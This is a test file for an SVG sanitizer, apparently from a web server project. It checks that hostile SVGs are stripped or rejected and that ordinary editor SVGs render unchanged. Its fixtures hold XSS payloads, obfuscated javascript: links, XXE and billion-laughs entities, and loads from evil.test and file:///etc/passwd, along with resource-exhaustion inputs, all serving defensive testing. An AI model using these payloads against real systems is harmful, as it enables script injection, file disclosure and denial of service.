// Tests the SVG sanitizer: it removes or rejects attacks, and ordinary SVGs look the same afterwards.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sanitizeSvg, UnsafeArtwork } from '../../server/images/svg/sanitize.ts'
import { cpuTimeMs } from '../support/cpu-time.ts'
import { difference } from '../support/pixels.ts'
import { findUnsafeContent } from '../support/svg-safety.ts'

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inner: string, attributes = 'viewBox="0 0 24 24"') =>
  `<svg ${NS} ${attributes}>${inner}</svg>`
const SHAPE = '<path d="M2 2h20v20H2z" fill="#d22"/>'
const sanitize = (text: string | Uint8Array) =>
  sanitizeSvg(typeof text === 'string' ? Buffer.from(text) : text)
const utf16 = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const nested = (depth: number, name = 'g') => `<${name}>`.repeat(depth) + `</${name}>`.repeat(depth)
/** Each of `depth` groups uses the group before it `width` times: the last one draws the shape `width ** depth` times. */
const nestedUses = (depth: number, width: number) => {
  const group = (n: number) => `<g id="f${n}">${`<use href="#f${n - 1}"/>`.repeat(width)}</g>`
  return (
    `<defs><g id="f0">${SHAPE}</g>${Array.from({ length: depth }, (_, n) => group(n + 1)).join('')}` +
    `</defs><use href="#f${depth}"/>`
  )
}

const REMOVED_ATTACKS: [name: string, attack: string | Uint8Array][] = [
  ['a script is dropped', svg(`<script>alert(1)</script>${SHAPE}`)],
  ['a script in CDATA is dropped', svg(`<script><![CDATA[alert(1)]]></script>${SHAPE}`)],
  ['a script that loads from elsewhere is dropped', svg('<script href="https://evil.test/a.js"/>')],
  ['onload on the root is dropped', svg(SHAPE, 'viewBox="0 0 9 9" onload="alert(1)"')],
  ['onload on an inner svg is dropped', svg('<svg onload="alert(1)" width="3" height="3"/>')],
  [
    'an event handler in capitals is dropped',
    svg('<rect width="3" height="3" ONCLICK="alert(1)"/>'),
  ],
  ['onbegin is dropped together with its animation', svg('<animate onbegin="alert(1)" dur="1s"/>')],
  ['a javascript: link loses its link', svg(`<a href="javascript:alert(1)">${SHAPE}</a>`)],
  [
    'a javascript: link with a tab inside loses its link',
    svg(`<a href="java&#9;script:alert(1)">${SHAPE}</a>`),
  ],
  [
    'a javascript: link after control characters loses its link',
    svg(`<a xlink:href="&#10; jaVaScRiPt:alert(1)">${SHAPE}</a>`),
  ],
  [
    'a javascript: link written in entities loses its link',
    svg(`<a href="&#106;&#x61;vascript:alert(1)">${SHAPE}</a>`),
  ],
  ['a javascript: image is dropped', svg('<image href="javascript:alert(1)"/>')],
  ['a data:text/html image is dropped', svg('<image href="data:text/html;base64,PHNjcmlwdD4="/>')],
  ['a use of data: is dropped', svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>')],
  [
    'an SVG image in a data: URI is dropped',
    svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  ],
  ['an image from the web is dropped', svg('<image xlink:href="https://evil.test/track.png"/>')],
  ['an image from a protocol-relative URL is dropped', svg('<image href="//evil.test/a.png"/>')],
  ['an image from a file: URL is dropped', svg('<image xlink:href="file:///etc/passwd"/>')],
  ['a use of another document is dropped', svg('<use href="other.svg#logo"/>')],
  [
    'a use whose link has another namespace prefix is dropped',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:q="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><use q:href="https://evil.test/#a"/></svg>`,
  ],
  [
    'foreignObject is dropped with its content',
    svg(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="//evil.test"/></body></foreignObject>',
    ),
  ],
  [
    'HTML elements among the shapes are dropped',
    svg('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>'),
  ],
  [
    'a script under another prefix is dropped',
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>alert(1)</s:script><s:rect width="3" height="3"/></s:svg>`,
  ],
  ['a script with an undeclared prefix is dropped', svg('<svg:script>alert(1)</svg:script>')],
  [
    '@import in a stylesheet is dropped',
    svg(`<style>@import url(https://evil.test/a.css);</style>${SHAPE}`),
  ],
  [
    'url() with an external address in a stylesheet is dropped',
    svg('<style>.a{fill:url(https://evil.test/#a)}</style><rect class="a" width="3" height="3"/>'),
  ],
  [
    'url() hidden by a CSS escape is dropped',
    svg('<rect style="fill:\\75rl(https://evil.test/#a)" width="3" height="3"/>'),
  ],
  [
    'a property hidden by a CSS escape is dropped',
    svg('<rect style="f\\69lter:url(https://evil.test/#a)" width="3" height="3"/>'),
  ],
  [
    'url() hidden by a CSS comment is dropped',
    svg('<rect style="fill:ur/**/l(https://evil.test/)" width="3" height="3"/>'),
  ],
  [
    'expression() is dropped',
    svg('<rect style="width:expression(alert(1));fill:expression(alert(1))"/>'),
  ],
  [
    '-moz-binding and behavior are dropped',
    svg('<rect style="-moz-binding:url(#a);behavior:url(a.htc)"/>'),
  ],
  ['@font-face is dropped', svg('<style>@font-face{font-family:a;src:url(//evil.test/f)}</style>')],
  [
    'a script after an early </style> in CDATA is dropped',
    svg('<style><![CDATA[</style><script>alert(1)</script>]]></style>'),
  ],
  ['a filter from the web is dropped', svg('<g filter="url(https://evil.test/#f)"/>')],
  [
    'a url() broken by quotes and brackets is dropped',
    svg(`<rect fill="url('#a') url(//evil.test)" width="3" height="3"/>`),
  ],
  [
    'feImage is dropped',
    svg('<filter id="f"><feImage href="https://evil.test/a.png"/></filter><g filter="url(#f)"/>'),
  ],
  [
    'a set element for href is dropped',
    svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
  ],
  [
    'an animate element for href is dropped',
    svg('<use href="#a"><animate attributeName="href" values="javascript:alert(1)"/></use>'),
  ],
  [
    'a stylesheet instruction is dropped',
    `<?xml version="1.0"?><?xml-stylesheet href="https://evil.test/a.css"?>${svg(SHAPE)}`,
  ],
  [
    'XInclude is dropped',
    svg(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ),
  ],
  [
    'a plain DOCTYPE is dropped',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svg(SHAPE)}`,
  ],
  ['comments are dropped', svg('<!-- <script>alert(1)</script> -->')],
  ['metadata and titles are dropped', svg('<metadata><x onload="a"/></metadata><title>T</title>')],
  [
    'an id that contains escaped markup is dropped',
    svg('<g id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
  ],
  [
    'an iframe, an embed and a video are dropped',
    svg('<iframe src="a"/><embed src="a"/><video src="a"/>'),
  ],
  ['a script in UTF-16 is dropped', utf16(svg(`<script>alert(1)</script>${SHAPE}`))],
  ['NaN and Infinity as sizes are dropped', svg('<rect width="NaN" height="Infinity"/>')],
  ['xml:base is dropped', svg(SHAPE, 'viewBox="0 0 9 9" xml:base="https://evil.test/"')],
  [
    'a marker on every corner is dropped',
    svg('<marker id="m"><path d="M0 0h9"/></marker><path marker-mid="url(#m)" d="M0 0h1h1h1"/>'),
  ],
]

const REJECTED_ATTACKS: [name: string, attack: string | Uint8Array][] = [
  [
    'entities that multiply are rejected',
    `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>${svg('&b;')}`,
  ],
  [
    'an entity from a file: URL is rejected',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`,
  ],
  [
    'a parameter entity is rejected',
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>${svg(SHAPE)}`,
  ],
  ['an undeclared entity is rejected', svg('&nbsp;')],
  ['a duplicate attribute is rejected', svg('<rect fill="red" fill="blue"/>')],
  ['a null byte is rejected', svg('<sc\0ript>alert(1)</script>')],
  ['UTF-7 is rejected', `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-')}`],
  ['EBCDIC is rejected', `<?xml version="1.0" encoding="IBM037"?>${svg(SHAPE)}`],
  ['invalid UTF-8 is rejected', Buffer.from([0x3c, 0x73, 0x76, 0x67, 0xc0, 0xaf])],
  ['UTF-16 without a byte order mark is rejected', Buffer.from(svg(SHAPE), 'utf16le')],
  ['HTML is rejected', '<html><body><svg viewBox="0 0 9 9"/></body></html>'],
  ['unclosed markup is rejected', '<svg viewBox="0 0 9 9"><g>'],
  ['an svg of another namespace is rejected', '<svg xmlns="http://evil.test/" viewBox="0 0 9 9"/>'],
  [
    'a width of 400,000 digits and an invalid unit is rejected quickly',
    svg('<g/>', `width="${'1'.repeat(400_000)}!"`),
  ],
  ['a huge number is rejected', svg('<path d="M0 0h1e308"/>')],
  ['a negative viewBox is rejected', svg(SHAPE, 'viewBox="0 0 -9 9"')],
  ['an empty viewBox is rejected', svg(SHAPE, 'viewBox="0 0 0 0"')],
  ['a viewBox of NaN without a size is rejected', svg(SHAPE, 'viewBox="0 0 NaN NaN"')],
  ['a viewBox of infinity is rejected', svg(SHAPE, 'viewBox="0 0 1e999 1e999"')],
  ['a very long, thin viewBox is rejected', svg(SHAPE, 'viewBox="0 0 1000 1"')],
  ['a size in percent alone is rejected', svg(SHAPE, 'width="100%" height="100%"')],
  ['a use of itself is rejected', svg('<g id="a"><use href="#a"/></g>')],
  [
    'two uses of each other are rejected',
    svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  ],
  [
    'a mask that masks itself is rejected',
    svg('<mask id="m"><g mask="url(#m)"/></mask><g mask="url(#m)"/>'),
  ],
  [
    'a circular reference in unused definitions is rejected',
    svg('<defs><pattern id="p" width="9" height="9"><rect fill="url(#p)"/></pattern></defs>'),
  ],
  ['exponentially nested uses are rejected', svg(nestedUses(9, 10))],
  ['a long chain of uses is rejected', svg(nestedUses(60, 1))],
  [
    'a pattern of tiny tiles is rejected',
    svg(
      '<pattern id="p" width="1e-5" height="1e-5" patternUnits="userSpaceOnUse"><path d="M0 0h1"/></pattern><rect width="24" height="24" fill="url(#p)"/>',
    ),
  ],
  [
    'a pattern scaled down to tiny tiles is rejected',
    svg(
      '<pattern id="p" width="1" height="1" patternTransform="scale(.0001)"/><rect width="24" height="24" fill="url(#p)"/>',
    ),
  ],
  [
    'patterns within patterns are rejected',
    svg(
      '<pattern id="p" width="1" height="1"><rect fill="url(#q)"/></pattern><pattern id="q" width="1" height="1"><path d="M0 0h1"/></pattern><rect fill="url(#p)"/>',
    ),
  ],
  [
    'dashes of almost no length are rejected',
    svg('<path stroke="red" stroke-dasharray=".0001" d="M0 0h24"/>'),
  ],
  ['deep nesting is rejected', svg(nested(200))],
  ['very deep nesting is rejected', svg(nested(100_000))],
  ['too many elements are rejected', svg('<g/>'.repeat(10_000))],
  ['too many inner svgs are rejected', svg('<svg/>'.repeat(30))],
  [
    'a stack of masks is rejected',
    svg(`<mask id="m"/>${'<g mask="url(#m)">'.repeat(30)}${'</g>'.repeat(30)}`),
  ],
  [
    '900 blurs are rejected',
    svg(
      '<filter id="f"><feGaussianBlur stdDeviation="9"/></filter>' +
        '<g filter="url(#f)"/>'.repeat(900),
    ),
  ],
  ['a long attribute is rejected', svg(`<path d="${'M0 0'.repeat(200_000)}"/>`)],
  ['more than 1 MB is rejected', svg(' '.repeat(1_100_000))],
  [
    '9,000 style rules are rejected',
    svg(`<style>${'a{}'.repeat(9_000)}</style>${'<g/>'.repeat(900)}`),
  ],
  [
    'a PNG whose header states gigapixels is rejected',
    svg(
      `<image href="data:image/png;base64,${Buffer.from('89504e470d0a1a0a0000000d49484452000fffff000fffff0806000000', 'hex').toString('base64')}"/>`,
    ),
  ],
  [
    'an embedded image that is not an image is rejected',
    svg('<image href="data:image/png;base64,PHN2Zz48L3N2Zz4="/>'),
  ],
  ['a text element is rejected', svg('<text x="2" y="9">Acme</text>')],
]

describe('a hostile SVG', () => {
  it.each(REMOVED_ATTACKS)('%s', (_, attack) => {
    const { svg: result } = sanitize(attack)
    expect(findUnsafeContent(result)).toEqual([])
    expect(result).not.toMatch(/evil|alert|script|file:|expression/i)
    expect(sanitize(result).svg).toBe(result)
  })

  it.each(REJECTED_ATTACKS)('%s', (_, attack) => {
    expect(() => sanitize(attack)).toThrow(UnsafeArtwork)
  })
})

const EDITOR_SVGS: [name: string, source: string][] = [
  [
    'Illustrator, styled by classes',
    `<?xml version="1.0" encoding="utf-8"?><!-- Generator: Adobe Illustrator --><svg version="1.1" id="Layer_1" ${NS} x="0px" y="0px" viewBox="0 0 40 20" style="enable-background:new 0 0 40 20;" xml:space="preserve"><style type="text/css">.st0{fill:#D71920;}.st1,.st2{fill:none;stroke:#00AEEF;stroke-width:2;}.st2{stroke:#FFF;stroke-linecap:round}g .st3{opacity:.5}</style><rect class="st0" width="40" height="20"/><path class="st1" d="M2 5h30"/><path class="st2" d="M2 12h30"/><g><circle class="st3" cx="9" cy="9" r="5"/></g></svg>`,
  ],
  [
    'Illustrator CS, with namespaces declared by entities',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">]><svg xmlns="&ns_svg;" xmlns:i="&ns_ai;" viewBox="0 0 20 20"><switch><foreignObject requiredExtensions="&ns_ai;" width="1" height="1"/><g i:extraneous="self"><path fill="#174" d="M1 1h18v9H1z"/></g></switch></svg>`,
  ],
  [
    'Inkscape, with namespaces and inline styles',
    `<svg ${NS} xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="10mm" height="10mm" viewBox="0 0 10 10"><sodipodi:namedview pagecolor="#fff"/><defs id="defs1"><linearGradient id="lg1"><stop style="stop-color:#005aff;stop-opacity:1" offset="0"/><stop style="stop-color:#0ff;stop-opacity:.2" offset="1"/></linearGradient><linearGradient inkscape:collect="always" xlink:href="#lg1" id="lg2" x1="0" x2="10" y1="0" y2="10" gradientUnits="userSpaceOnUse"/></defs><g inkscape:label="Layer 1" transform="translate(1,1)"><path style="fill:url(#lg2);fill-opacity:.9;stroke:#000;stroke-width:.3px;stroke-linejoin:miter" d="M0 0h8v8H0z" sodipodi:nodetypes="cccc"/></g></svg>`,
  ],
  [
    'Figma, with clip path, mask and shadow',
    `<svg ${NS} width="48" height="48" viewBox="0 0 48 48" fill="none"><g clip-path="url(#clip0_1_2)"><mask id="mask0" style="mask-type:alpha" maskUnits="userSpaceOnUse" x="4" y="4" width="40" height="40"><circle cx="24" cy="24" r="20" fill="#D9D9D9"/></mask><g mask="url(#mask0)"><rect width="48" height="24" fill="#FF5C00"/><g filter="url(#f0)"><circle cx="24" cy="30" r="8" fill="white"/></g></g></g><defs><filter id="f0" x="0" y="0" width="48" height="48" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="BackgroundImageFix"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/><feOffset dy="4"/><feGaussianBlur stdDeviation="2"/><feColorMatrix type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0.25 0"/><feBlend mode="normal" in2="BackgroundImageFix" result="e1"/><feBlend mode="normal" in="SourceGraphic" in2="e1" result="shape"/></filter><clipPath id="clip0_1_2"><rect width="48" height="48" fill="white"/></clipPath></defs></svg>`,
  ],
  [
    'Sketch, with shapes that masks use',
    `<svg width="32px" height="32px" viewBox="0 0 32 32" version="1.1" ${NS}><title>Logo</title><defs><polygon id="path-1" points="2 2 30 2 30 30 2 30"/></defs><g stroke="none" stroke-width="1" fill="none" fill-rule="evenodd"><mask id="mask-2" fill="white"><use xlink:href="#path-1"/></mask><use fill="#3B5998" xlink:href="#path-1"/><path d="M9 9h30v14H9z" fill="#FFF" mask="url(#mask-2)"/></g></svg>`,
  ],
  [
    'an inline header logo with currentColor',
    `<svg viewBox="0 0 9 9" color="#639"><path fill="currentColor" d="M1 1h7v7H1z"/><path stroke="currentColor" d="M0 0l9 9"/></svg>`,
  ],
]

describe('an ordinary SVG', () => {
  it.each(EDITOR_SVGS)('from %s looks the same afterwards', (_, source) => {
    const { svg: result } = sanitize(source)
    // An SVG inside of HTML needs no namespace; a standalone one does.
    const withNamespace = source.includes(' xmlns') ? source : source.replace('<svg', `<svg ${NS}`)
    // resvg reads `mask-type` only as an attribute.
    const original = withNamespace.replace('style="mask-type:alpha"', 'mask-type="alpha"')
    expect(findUnsafeContent(result)).toEqual([])
    expect(difference(original, result)).toBeLessThanOrEqual(2)
    expect(sanitize(result).svg).toBe(result)
  })

  it('is styled by CSS specificity and !important', () => {
    const rules = '#a{fill:#0a0}.b{fill:#a00!important}rect{fill:#00a}.c>.d{fill:#0aa}'
    const styledRect = (attributes: string) =>
      sanitize(svg(`<style>${rules}</style><g class="c"><rect ${attributes}/></g>`)).svg
    expect(styledRect('fill="#fff"')).toContain('<rect fill="#0000aa"/>')
    expect(styledRect('id="a"')).toContain('<rect fill="#00aa00"/>')
    expect(styledRect('id="a" class="b d" style="fill:#aa0"')).toContain('<rect fill="#aa0000"/>')
    expect(styledRect('class="d"')).toContain('<rect fill="#00aaaa"/>')
  })

  it('keeps the last valid color when Figma writes two fills', () => {
    expect(sanitize(svg('<rect style="fill:#ff5c00;fill:unknown-function(1)"/>')).svg).toContain(
      '"#ff5c00"',
    )
    const displayP3 = '<rect style="fill:#fff;fill:color(display-p3 0 0 0)"/>'
    expect(sanitize(svg(displayP3)).svg).toContain('<rect fill="#000000"/>')
  })

  it('gets its viewBox from width and height in any unit', () => {
    expect(sanitize(svg(SHAPE, 'width="1in" height="72pt"'))).toMatchObject({
      width: 96,
      height: 96,
    })
    expect(sanitize(svg(SHAPE, 'width="2em" height="16px"'))).toMatchObject({
      width: 32,
      height: 16,
    })
  })

  it('keeps a valid embedded raster image', () => {
    const gif = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
    expect(sanitize(svg(`<image href="${gif}" width="9" height="9"/>`)).svg).toContain(gif)
  })

  it('may leave out the spaces between the numbers of a transform', () => {
    const minified = svg('<path transform="matrix(-1 1-1 0 19.5-9)" d="M1 1h7v7"/>')
    expect(sanitize(minified).svg).toContain('matrix(-1 1-1 0 19.5-9)')
  })

  it('writes default black explicitly', () => {
    expect(sanitize(svg('<path d="M0 0h9"/>')).svg).toContain('fill="#000000"')
    const stop = '<linearGradient id="a"><stop/></linearGradient><rect fill="url(#a)"/>'
    expect(sanitize(svg(stop)).svg).toContain('stop-color="#000000"')
  })
})

const tagNames = fc.constantFrom(
  'g',
  'path',
  'use',
  'mask',
  'pattern',
  'style',
  'script',
  'a',
  'svg',
  'image',
  'switch',
  'foreignObject',
  'linearGradient',
  'stop',
  'filter',
  'feGaussianBlur',
  'rect',
  'animate',
  'symbol',
  'clipPath',
  'x:script',
  'svg:g',
  'text',
)
const attributeNames = fc.constantFrom(
  'fill',
  'style',
  'href',
  'xlink:href',
  'id',
  'mask',
  'class',
  'd',
  'on',
  'onload',
  'width',
  'transform',
  'stroke-dasharray',
  'viewBox',
  'opacity',
  'clip-path',
  'display',
  'color',
  'stop-color',
  'xml:base',
  'mask-type',
  'filter',
  'xmlns',
)
const attributeValues = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.constantFrom(
    '#a',
    '#b',
    'url(#a)',
    'url(#b) red',
    'url(//evil.test/#a)',
    'javascript:alert(1)',
    'a',
    'b',
    'M0 0h9v9z',
    '1',
    'fill:url(#a);mask:url(#b)',
    'currentColor',
    '\\75rl(#a)',
    'scale(2)',
    'none',
    'alpha',
    '1 2',
    'mix-blend-mode:multiply',
    'rgb(300 -1 none / 30%)',
    'hsl(20deg 5% 5%)',
    '.5',
    '0 0 9 9',
    '-0',
  ),
)
const escapeAttribute = (value: string) =>
  value.replace(/[&<>"]/g, (character) => `&#${character.charCodeAt(0)};`)
/** Nested elements with random names and attributes. */
const { tree } = fc.letrec<{ tree: string }>((tie) => ({
  tree: fc
    .record({
      name: tagNames,
      attributes: fc.dictionary(attributeNames, attributeValues, { maxKeys: 4 }),
      inner: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        fc.constantFrom('', '.a{fill:red}', 'lettering', '<![CDATA[</style>]]>'),
        fc.array(tie('tree'), { maxLength: 4 }).map((parts) => parts.join('')),
      ),
    })
    .map(
      ({ name, attributes, inner }) =>
        `<${name}${Object.entries(attributes)
          .map(([key, value]) => ` ${key}="${escapeAttribute(value)}"`)
          .join('')}>${inner}</${name}>`,
    ),
}))

/**
 * Within a second, the sanitizer must throw UnsafeArtwork, or return an SVG that the independent check accepts and that
 * the sanitizer does not change again.
 */
function expectSafeOrRejected(bytes: Uint8Array): void {
  const start = cpuTimeMs()
  try {
    const { svg: result } = sanitizeSvg(bytes)
    expect(findUnsafeContent(result)).toEqual([])
    expect(sanitize(result).svg).toBe(result)
  } catch (error) {
    if (!(error instanceof UnsafeArtwork)) throw error
  }
  expect(cpuTimeMs() - start).toBeLessThan(1000)
}

describe('random input', () => {
  it('of elements and attributes is sanitized or rejected', () => {
    fc.assert(
      fc.property(fc.array(tree, { maxLength: 6 }), (trees) =>
        expectSafeOrRejected(Buffer.from(svg(trees.join('')))),
      ),
      { numRuns: 3000 },
    )
  })

  it('made by mutating attacks and ordinary SVGs is sanitized or rejected', () => {
    const texts = [...REMOVED_ATTACKS, ...REJECTED_ATTACKS, ...EDITOR_SVGS]
      .map(([, text]) => Buffer.from(text))
      .filter(({ length }) => length < 5000)
    const mutation = fc.record({
      offset: fc.nat(4999),
      removedLength: fc.nat(8),
      inserted: fc.string({ maxLength: 6 }),
    })
    fc.assert(
      fc.property(
        fc.constantFrom(...texts),
        fc.array(mutation, { maxLength: 3 }),
        (text, mutations) => {
          let bytes = text
          for (const { offset, removedLength, inserted } of mutations) {
            const start = offset % bytes.length
            bytes = Buffer.concat([
              bytes.subarray(0, start),
              Buffer.from(inserted),
              bytes.subarray(start + removedLength),
            ])
          }
          expectSafeOrRejected(bytes)
        },
      ),
      { numRuns: 3000 },
    )
  })

  it('of arbitrary bytes is rejected', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        expect(() => sanitizeSvg(bytes)).toThrow(UnsafeArtwork)
      }),
    )
  })
})
